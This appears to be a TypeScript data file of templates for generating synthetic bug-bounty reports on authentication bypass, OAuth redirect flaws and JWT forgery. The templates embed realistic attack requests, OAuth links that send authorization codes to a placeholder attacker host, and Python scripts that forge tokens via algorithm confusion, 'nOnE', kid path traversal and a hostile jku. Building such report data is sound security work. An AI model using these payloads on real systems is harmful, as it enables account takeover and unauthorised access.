import type { VulnerabilityClass } from './vulnerability-class.ts'

const authenticationBypass: VulnerabilityClass = {
  key: 'authentication-bypass',
  type: 'Authentication bypass',
  cwe: 287,
  weight: 4,
  surfaces: ['web', 'api', 'infrastructure', 'device'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 4],
  ],
  places: [
    {
      path: '«api»/internal/users',
      parameter: 'X-Original-URL',
      detail: 'a header that only the gateway should set',
      excerpt: `GET / HTTP/1.1
Host: «host»
X-Original-URL: «api»/internal/users

HTTP/1.1 200 OK
Content-Type: application/json

{"users":[{"id":1,"email":"root@«domain»","role":"super"},{"id":2,"email":"ops@«domain»","role":"admin"}],"total":«many2»}`,
    },
    {
      path: '/admin/console',
      parameter: 'path',
      detail: 'a semicolon in the path',
      excerpt: `GET /admin/console   HTTP/1.1   ->  401   «server»
GET /admin;/console  HTTP/1.1   ->  200   the application behind it

<title>Console - «company»</title> … <nav>Users · Jobs · Feature switches</nav>`,
    },
    {
      method: 'POST',
      path: '«api»/login',
      parameter: 'authType',
      detail: 'an empty password and `"authType": "ldap"`',
      excerpt: `POST «api»/login HTTP/1.1
Host: «host»
Content-Type: application/json

{"user":"«victim»","password":"","authType":"ldap"}

HTTP/1.1 200 OK
Set-Cookie: «cookieName»=«session»; HttpOnly; Secure`,
    },
    {
      method: 'POST',
      path: '/saml/acs',
      parameter: 'SAMLResponse',
      detail: 'a comment inside the name id of a SAML answer',
      excerpt: `<saml:NameID>«victim»<!-- -->.«attacker»</saml:NameID>

POST /saml/acs HTTP/1.1
Host: «host»

HTTP/1.1 302 Found
Location: /home
Set-Cookie: «cookieName»=«session»   # session of «victim»`,
    },
  ],
  titles: [
    'Authentication bypass on «host» with «detail»',
    'Signed in without a password: «detail» («path»)',
    'Unauthenticated access to «path»',
    '«Detail» is enough to pass the login of «host»',
  ],
  summaries: [
    'With «detail» the check at the door is skipped and `«path»` answers as to somebody with rights.',
    'Two parts of «host» read a request differently. Using «detail» I get past the one that checks who I am.',
  ],
  steps: [
    [
      'Use `«path»` in the normal way with wrong or no credentials: refused.',
      'Repeat it with «detail», as below: accepted.',
      'I looked at one page, with my own two accounts in it, and stopped.',
    ],
    [
      'Take the request below as it is; there is no session in it.',
      'Compare the answer with what a signed-in person sees.',
    ],
  ],
  proofs: [[{ say: 'What was sent and what came back:', lang: 'http', code: '«excerpt»' }]],
  impacts: [
    'No account is needed at all. Everything that a «staffRole» sees and does is open: «secrets».',
    'Complete loss of access control for the internal API of «company», from the internet.',
  ],
  fixes: [
    'Decide on the address once, after it was brought into one form, and check rights in the service itself as well.',
  ],
  notes: [
    'Confirmed from a mobile network without any cookie. Incident opened, edge rule deployed 11:50, proper fix follows.',
    'Only works through the old load balancer, which still has the DNS name `lb2`. Being removed.',
  ],
}

const oauthRedirect: VulnerabilityClass = {
  key: 'oauth-redirect',
  type: 'OAuth and single sign-on',
  cwe: 601,
  weight: 4,
  surfaces: ['web', 'mobile'],
  shape: 'click',
  severities: [
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    {
      path: '/oauth/authorize',
      parameter: 'redirect_uri',
      detail: 'a path with dots in it',
      excerpt: `https://«host»/oauth/authorize?client_id=mobile&response_type=code&scope=openid%20profile
  &redirect_uri=https%3A%2F%2Fapp.«domain»%2Fcallback%2F..%2F..%2Fr%3Fto%3Dhttps%3A%2F%2F«attacker»`,
    },
    {
      path: '/oauth/authorize',
      parameter: 'redirect_uri',
      detail: 'any subdomain of the client',
      excerpt: `https://«host»/oauth/authorize?client_id=web&response_type=code&scope=openid%20profile
  &redirect_uri=https%3A%2F%2F«abandoned».«domain»%2Fcallback
# «abandoned».«domain» shows pages of users, mine loads an image from «attacker»`,
    },
    {
      path: '/sso/start',
      parameter: 'RelayState',
      detail: 'an absolute address with an encoded slash',
      excerpt: `https://«host»/sso/start?idp=corporate&RelayState=https:%2f%2f«attacker»%2fcatch`,
    },
  ],
  titles: [
    'OAuth: `«parameter»` accepts «detail», authorization code leaks',
    'Account takeover through «path»: `«parameter»` is not compared exactly',
    'Code of the victim is sent to my host (`«parameter»`, «detail»)',
    'Sign-in of «host» hands the code to strangers («detail»)',
  ],
  summaries: [
    'The authorization server does not compare `«parameter»` exactly. With «detail» the code of the victim is delivered to a page of mine.',
    'Because `«parameter»` may be «detail», the login of a victim can be completed at my host. One click on a link on the real domain is enough, an existing session needs no consent again.',
  ],
  steps: [
    [
      'Register a client of your own, or take the public one of the mobile app.',
      'Send the victim to the address below.',
      'The victim is signed in already, so there is no page in between.',
      'The code arrives in the access log of «attacker».',
      'Exchange it within 60 seconds and call `«api»/me`: it is the victim.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The link:',
        lang: 'text',
        code: '«excerpt»',
      },
      {
        say: 'What arrives:',
        lang: 'text',
        code: '«ip» "GET /?code=SplxlOBeZQQYbYS6WxSbIA&state=x HTTP/2" 200 "https://«host»/"',
      },
    ],
    [
      {
        say: 'The link that the victim follows:',
        lang: 'text',
        code: '«excerpt»',
      },
      {
        say: 'Exchange of the code that arrives (PKCE is not asked for):',
        lang: 'bash',
        code: `$ curl -s https://«host»/oauth/token \\
  -d grant_type=authorization_code -d client_id=mobile \\
  -d code=SplxlOBeZQQYbYS6WxSbIA -d redirect_uri=https://app.«domain»/callback
{"access_token":"«jwt»","token_type":"Bearer","expires_in":3600}`,
      },
    ],
  ],
  impacts: [
    'Takeover of the account of anybody who clicks, without a password and past the second factor.',
    'The token has the full scope of the mobile client: it reads «secrets».',
  ],
  fixes: [
    'Compare `redirect_uri` character by character with the registered ones and ask for PKCE from every public client.',
  ],
  notes: [
    'Path normalisation happens after the comparison. Identity team confirms, fix is small.',
    'Code is bound to the client but not to the redirect address. Exchange worked for me.',
  ],
}

const jwtConfusion: VulnerabilityClass = {
  key: 'jwt-confusion',
  type: 'Authentication bypass',
  cwe: 347,
  weight: 3,
  surfaces: ['api', 'web', 'mobile'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 3],
  ],
  places: [
    {
      path: '«api»/me',
      parameter: 'alg',
      detail: 'HS256, signed with the public key',
      excerpt: `import base64, hashlib, hmac, json, pathlib, time

def part(value):
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=")

key = pathlib.Path("public.pem").read_bytes()          # from /.well-known/jwks.json
head = part({"alg": "HS256", "typ": "JWT"})
body = part({"sub": "«victimId»", "exp": int(time.time()) + 600})
signature = hmac.new(key, head + b"." + body, hashlib.sha256).digest()
print((head + b"." + body + b"." + part(signature)).decode())`,
    },
    {
      path: '«api»/me',
      parameter: 'alg',
      detail: 'the algorithm `none`',
      excerpt: `import base64, json

def part(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

# "none" is refused, "nOnE" is not
print(part({"alg": "nOnE", "typ": "JWT"}) + "." + part({"sub": "«victimId»"}) + ".")`,
    },
    {
      path: '«api»/me',
      parameter: 'kid',
      detail: 'a key id that points to an empty file',
      excerpt: `import jwt

print(jwt.encode({"sub": "«victimId»"}, key="", algorithm="HS256",
                 headers={"kid": "../../../../../../dev/null"}))`,
    },
    {
      path: '«api»/me',
      parameter: 'jku',
      detail: 'a key set on my own host',
      excerpt: `import jwt

private_key = open("mine.pem").read()                  # public part at https://«attacker»/jwks.json
print(jwt.encode({"sub": "«victimId»"}, private_key, algorithm="RS256",
                 headers={"jku": "https://«attacker»/jwks.json", "kid": "1"}))`,
    },
  ],
  titles: [
    'JWT: «host» accepts «detail», any user can be impersonated',
    'Signature of the access token is not verified properly (`«parameter»`)',
    'Forged JWT through `«parameter»`: «detail»',
    'Session token of «host» can be made by anybody («detail»)',
  ],
  summaries: [
    'The API verifies tokens with whatever the token itself asks for. With «detail» I sign tokens for any user id.',
    'The header member `«parameter»` is trusted. Using «detail», a token that I made myself is accepted.',
  ],
  steps: [
    [
      'Make a token with the script below; the subject is my second account «victimId».',
      'Call `«path»` with it.',
      'The answer is the profile of the second account (`«victim»`).',
    ],
  ],
  proofs: [
    [
      { say: 'The script:', lang: 'python', code: '«excerpt»' },
      {
        say: 'And its use:',
        lang: 'http',
        code: `GET «path» HTTP/2
Host: «host»
Authorization: Bearer «jwt»

HTTP/2 200
Content-Type: application/json

{"id":«victimId»,"email":"«victim»","role":"«customer»"}`,
      },
    ],
  ],
  impacts: [
    'Anybody can become anybody, «staffRole»s included. Only the number of the account must be known, and those are counted up.',
    'All APIs that share this verifier are concerned.',
  ],
  fixes: ['Fix the algorithm on the side of the verifier and choose the key by issuer, not by the token.'],
  notes: [
    'Own library, forked in 2019 before the fix upstream. Token forged on staging within five minutes. Critical.',
  ],
}

export const authenticationClasses: readonly VulnerabilityClass[] = [
  authenticationBypass,
  oauthRedirect,
  jwtConfusion,
]
